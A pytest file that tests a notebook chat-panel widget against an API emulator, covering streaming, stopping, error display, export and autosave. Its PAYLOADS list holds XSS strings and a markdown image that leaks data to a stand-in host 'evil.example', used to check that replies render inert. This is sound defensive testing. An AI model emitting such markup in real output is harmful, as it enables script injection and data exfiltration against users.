"""ChatPanel headless: its twins and gestures against the emulator (sync and async clients)."""

from __future__ import annotations

import asyncio
import datetime as dt
import json
import time
from pathlib import Path

import pytest
from _fakes import ScriptedChatClient
from _html import html_values, live_markup, parse

import lcoai_notebook as lco
from lcoai_notebook.emulator import Emulator
from lcoai_notebook.widgets.chat import ChatPanel, chat_models

PAYLOADS = [
    '<img src=x onerror="window.__xss1=1">',
    "<script>window.__xss2=1</script>",
    '<iframe srcdoc="<script>parent.__xss3=1</script>"></iframe>',
    '<details open ontoggle="window.__xss4=1">x</details>',
    "[click me](javascript:window.__xss5=1)",
    '<a href="javascript:window.__xss6=1">link</a>',
    "![exfil](https://evil.example/?d=secret)",
]


@pytest.fixture(scope="module")
def emu() -> Emulator:
    return Emulator()


@pytest.fixture(params=["sync", "async"])
def client(request: pytest.FixtureRequest, emu: Emulator):
    c = emu.client() if request.param == "sync" else emu.async_client()
    yield c


def test_send_streams_the_reply_the_client_gives(client, emu: Emulator) -> None:
    panel = ChatPanel(client=client, model="gpt-4.1-mini", temperature=0.0)
    reply = panel.send("Why do people compare embeddings with cosine similarity?")
    expected = emu.client().chat.completions.create(
        model="gpt-4.1-mini", temperature=0.0,
        messages=[{"role": "user",
                   "content": "Why do people compare embeddings with cosine similarity?"}])
    assert reply == expected.choices[0].message.content
    assert panel.history == [
        {"role": "user", "content": "Why do people compare embeddings with cosine similarity?"},
        {"role": "assistant", "content": reply},
    ]
    # The page shows both messages; the reply's words are in the rendered bubble.
    texts = " ".join("".join(parse(v).text) for v in html_values(panel))
    assert reply.split()[0] in texts and "cosine similarity" in texts
    assert panel.usage["total_tokens"] == expected.usage.total_tokens
    assert panel.usage["prompt_tokens"] + panel.usage["completion_tokens"] == \
        panel.usage["total_tokens"]
    assert not panel.busy and panel.error == ""


def test_system_prompt_comes_first_and_is_sent(emu: Emulator) -> None:
    scripted = ScriptedChatClient(["ok"])
    panel = ChatPanel(client=scripted, system="Answer in one word.")
    panel.send("Hi")
    assert panel.history[0] == {"role": "system", "content": "Answer in one word."}
    sent = scripted.requests[-1]["messages"]
    assert sent[0] == {"role": "system", "content": "Answer in one word."}
    assert sent[-1] == {"role": "user", "content": "Hi"}


def test_conversation_continues_and_sends_earlier_turns(client) -> None:
    panel = ChatPanel(client=client, model="gpt-4.1-mini", temperature=0.0)
    panel.send("My name is Zed.")
    panel.send("What is my name?")
    roles = [m["role"] for m in panel.history]
    assert roles == ["user", "assistant", "user", "assistant"]


def test_enter_in_the_prompt_box_sends_and_clears_it(emu: Emulator) -> None:
    panel = ChatPanel(client=emu.client(), model="gpt-4.1-mini")

    async def gesture() -> None:
        panel.prompt.value = "Hello there"
        # What the front end sends on Enter (the ESM's model.send({type: "submit"})).
        panel.prompt._handle_message(panel.prompt, {"type": "submit"}, [])
        assert panel.runner.task is not None and panel.busy
        assert panel.send_button.disabled and not panel.stop_button.disabled
        await panel.runner.task

    asyncio.run(gesture())
    assert panel.prompt.value == ""
    assert [m["role"] for m in panel.history] == ["user", "assistant"]
    assert panel.history[0]["content"] == "Hello there"
    assert not panel.send_button.disabled and panel.stop_button.disabled


def test_send_button_runs_as_a_task_and_the_loop_stays_free(emu: Emulator) -> None:
    panel = ChatPanel(client=emu.async_client(), model="gpt-4.1-mini")
    ticks = []

    async def gesture() -> None:
        panel.prompt.value = "Tell me about the sea"
        panel.send_button.click()
        task = panel.runner.task
        while not task.done():  # the loop keeps running other work while the reply streams
            ticks.append(1)
            await asyncio.sleep(0)
        await task

    asyncio.run(gesture())
    assert ticks and len(panel.history) == 2


def _stop_on_first_update(panel: ChatPanel) -> None:
    def observe(change) -> None:
        if "lco-assistant" in change["new"] and "…" not in change["new"]:
            panel.stop()

    def attach(change) -> None:
        for bubble in change["new"]:
            bubble.observe(observe, names="value")

    panel.conversation.observe(attach, names="children")


@pytest.mark.parametrize("mode", ["twin", "gesture"])
def test_stop_keeps_the_partial_reply_marked_stopped(mode: str) -> None:
    scripted = ScriptedChatClient([f"word{i} " for i in range(400)], pause=0.002)
    panel = ChatPanel(client=scripted)
    _stop_on_first_update(panel)
    if mode == "twin":
        reply = panel.send("Write a long story")
    else:
        async def gesture() -> None:
            panel.prompt.value = "Write a long story"
            panel.send_button.click()
            await panel.runner.task
        asyncio.run(gesture())
        reply = panel.history[-1]["content"]
    history = panel.history
    assert history[0] == {"role": "user", "content": "Write a long story"}
    assert history[1]["role"] == "assistant" and history[1]["stopped"] is True
    assert history[1]["content"] == reply
    assert reply.startswith("word0") and 0 < len(reply.split()) < 400
    assert "stopped" in panel.conversation.children[-1].value
    # The marker stays local: it is not sent back to the API.
    scripted.pieces = ["fine"]
    panel.send("continue")
    assert all("stopped" not in m for m in scripted.requests[-1]["messages"])


def test_stop_with_nothing_running_is_harmless(emu: Emulator) -> None:
    panel = ChatPanel(client=emu.client())
    assert panel.stop() is False


def test_injected_fault_shows_one_line_and_keeps_the_typed_text(emu: Emulator) -> None:
    bad = emu.client(default_headers={"X-Emulator-Fault": "status=400"}, max_retries=0)
    panel = ChatPanel(client=bad, model="gpt-4.1-mini")

    async def gesture() -> None:
        panel.prompt.value = "my carefully typed question"
        panel.send_button.click()
        await panel.runner.task

    asyncio.run(gesture())
    assert panel.prompt.value == "my carefully typed question"
    assert panel.history == []
    assert panel.error and "\n" not in panel.error and "400" in panel.error
    assert isinstance(panel.last_error, lco.BadRequestError)
    assert "lco-error" in panel._error_line.value and "Traceback" not in panel._error_line.value
    # The twin raises the typed error and also keeps the text in the box.
    with pytest.raises(lco.BadRequestError):
        panel.send("another question")
    assert panel.prompt.value == "another question"
    assert panel.history == []


def test_bad_token_error_says_how_to_set_it() -> None:
    with Emulator() as live_like:
        panel_client = lco.Client(api_token="at_wrong_token", base_url=live_like.url,
                                  max_retries=0)
        panel = ChatPanel(client=panel_client, model="gpt-4.1-mini")
        with pytest.raises(lco.APIStatusError):
            panel.send("hello")
        assert "LCOAI_API_TOKEN" in panel.error
        assert "at_wrong_token" not in panel.error and "at_wrong_token" not in \
            panel._error_line.value
        panel_client.close()


def test_a_reply_carrying_markup_reaches_the_page_inert_streamed_and_loaded(
        tmp_path: Path) -> None:
    text = "Here you go:\n\n" + "\n\n".join(PAYLOADS)
    pieces = [text[i:i + 5] for i in range(0, len(text), 5)]
    panel = ChatPanel(client=ScriptedChatClient(pieces))
    panel.send("show me " + PAYLOADS[0])
    assert panel.history[-1]["content"] == text
    markup = html_values(panel)
    problems = [p for value in markup for p in live_markup(value)]
    assert problems == []
    joined = "\n".join(markup)
    assert "&lt;script&gt;" in joined and "&lt;iframe" in joined  # shown as text
    # Not streamed: the same reply loaded from a file.
    path = panel.export(tmp_path / "chat.json")
    fresh = ChatPanel(client=ScriptedChatClient(["x"]))
    fresh.load(path)
    assert [p for value in html_values(fresh) for p in live_markup(value)] == []
    assert fresh.history == panel.history


def test_the_markup_check_can_fail() -> None:
    # The detector used above really sees live markup.
    assert live_markup('<img src=x onerror="1">') == ["<img>", "img[onerror]"]
    assert live_markup('<a href="javascript:x">y</a>') == ["a[href='javascript:x']"]


def test_export_then_load_gives_back_the_same_history(tmp_path: Path, emu: Emulator) -> None:
    panel = ChatPanel(client=emu.client(), model="gpt-4.1-mini", system="Be brief.")
    panel.send("First question")
    panel.send("Second question")
    path = panel.export(tmp_path / "chat.json")
    doc = json.loads(path.read_text())
    assert doc["model"] == "gpt-4.1-mini" and doc["history"] == panel.history
    other = ChatPanel(client=emu.client())
    other.load(path)
    assert other.history == panel.history
    assert other.model == "gpt-4.1-mini"
    md = panel.export(tmp_path / "chat.md").read_text()
    assert md.startswith("# Chat with gpt-4.1-mini") and "## User" in md and \
        "Second question" in md


def test_load_refuses_a_file_that_is_not_a_conversation(tmp_path: Path, emu: Emulator) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text('{"history": [{"role": "wizard"}]}')
    panel = ChatPanel(client=emu.client())
    with pytest.raises(ValueError, match="history"):
        panel.load(bad)
    with pytest.raises(FileNotFoundError):
        panel.load(tmp_path / "missing.json")


def test_autosave_lets_a_new_panel_continue(tmp_path: Path, emu: Emulator) -> None:
    path = tmp_path / "session.json"
    first = ChatPanel(client=emu.client(), model="gpt-4.1-mini", autosave=path)
    first.send("Remember that my favourite colour is green.")
    assert json.loads(path.read_text())["history"] == first.history
    # A kernel restart later: a new panel from the same file has the conversation.
    scripted = ScriptedChatClient(["It is green."])
    second = ChatPanel(client=scripted, autosave=path)
    assert second.history == first.history
    second.send("What is my favourite colour?")
    sent = scripted.requests[-1]["messages"]
    assert [m["content"] for m in sent[:2]] == [m["content"] for m in first.history]
    assert len(json.loads(path.read_text())["history"]) == 4


def test_undo_regenerate_clear(emu: Emulator) -> None:
    panel = ChatPanel(client=emu.client(), model="gpt-4.1-mini", temperature=0.0)
    panel.send("one")
    panel.send("two")
    panel.undo()
    assert [m["content"] for m in panel.history if m["role"] == "user"] == ["one"]
    assert len(panel.conversation.children) == 2
    old = panel.history[-1]["content"]
    new = panel.regenerate()
    assert panel.history[-1]["content"] == new and len(panel.history) == 2
    assert isinstance(old, str)
    panel.clear()
    assert panel.history == [] and panel.conversation.children == ()
    with pytest.raises(ValueError, match="regenerate"):
        panel.regenerate()


def test_throttle_5000_chunks_at_most_about_20_updates_a_second() -> None:
    scripted = ScriptedChatClient(["x"] * 5000, pause=0.004, every=20)  # ~1 s of streaming
    panel = ChatPanel(client=scripted)
    updates: list[float] = []

    def attach(change) -> None:
        for bubble in change["new"]:
            if bubble not in seen:
                seen.add(bubble)
                bubble.observe(lambda _c: updates.append(time.monotonic()), names="value")

    seen: set = set()
    panel.conversation.observe(attach, names="children")
    started = time.monotonic()
    reply = panel.send("go")
    elapsed = time.monotonic() - started
    assert reply == "x" * 5000
    assert elapsed > 0.5
    # At most 20 a second while streaming, plus the final render.
    assert len(updates) <= 20 * elapsed + 2, (len(updates), elapsed)
    assert len(updates) >= 5  # the reply did stream in (not one update at the end)


def test_model_picker_hides_retired_models_and_shows_the_right_controls(emu: Emulator) -> None:
    before = chat_models(["gpt-5-mini", "gpt-5.4-mini", "text-embedding-3-small"],
                         dt.date(2026, 12, 1))
    after = chat_models(["gpt-5-mini", "gpt-5.4-mini"], dt.date(2026, 12, 11))
    assert before == ["gpt-5.4-mini", "gpt-5-mini"] and after == ["gpt-5.4-mini"]
    panel = ChatPanel(client=emu.client(), today=dt.date(2027, 2, 1))
    options = list(panel.model_picker.options)
    assert "gpt-5-mini" not in options and "o3" not in options and "gpt-4o" not in options
    assert panel.model == "gpt-5.4-mini"
    panel.model_picker.value = "gpt-5.4-mini"  # a reasoning model: effort, no temperature
    assert panel.temperature.layout.display == "none" and panel.effort.layout.display is None
    scripted = ScriptedChatClient(["ok"])
    p2 = ChatPanel(client=scripted, model="gpt-4.1-mini", temperature=0.3,
                   max_completion_tokens=50)
    p2.send("hi")
    assert scripted.requests[-1]["temperature"] == 0.3
    assert scripted.requests[-1]["max_completion_tokens"] == 50
    p2.model_picker.value = "gpt-5.4-mini"
    p2.effort.value = "low"
    p2.send("hi again")
    assert scripted.requests[-1]["reasoning_effort"] == "low"
    assert "temperature" not in scripted.requests[-1]


def test_text_repr_for_nbconvert_and_github(emu: Emulator) -> None:
    panel = ChatPanel(client=emu.client(), model="gpt-4.1-mini")
    panel.send("Hello <b>there</b>")
    bundle = panel._repr_mimebundle_()
    plain = bundle["text/plain"]
    assert plain.startswith("ChatPanel · gpt-4.1-mini · 1 exchange")
    assert "user: Hello <b>there</b>" in plain
    assert "application/vnd.jupyter.widget-view+json" in bundle


def test_with_an_async_client_in_a_running_loop_twins_are_awaited(emu: Emulator) -> None:
    # As in a notebook cell: a loop is running, so the twin hands back a task on that loop
    # (the AsyncClient stays on the loop its owner's cells use).
    async def cell() -> None:
        panel = ChatPanel(client=emu.async_client(), model="gpt-4.1-mini")
        await asyncio.sleep(0.05)  # the model listing runs as a task meanwhile
        assert not panel.busy
        reply = await panel.send("Hello from a cell")
        assert reply and panel.history[-1]["content"] == reply
        with pytest.raises(lco.BadRequestError):
            bad = ChatPanel(client=emu.async_client(
                default_headers={"X-Emulator-Fault": "status=400"}, max_retries=0),
                model="gpt-4.1-mini")
            await bad.send("this fails")
        assert bad.prompt.value == "this fails"

    asyncio.run(cell())


def test_seed_is_sent_with_every_request_and_checked() -> None:
    scripted = ScriptedChatClient(["ok"])
    panel = ChatPanel(client=scripted, model="gpt-4.1-mini", seed=7)
    panel.send("one")
    panel.send("two")
    assert [r["seed"] for r in scripted.requests] == [7, 7]
    with pytest.raises(TypeError, match="seed"):
        ChatPanel(client=scripted, seed="7")
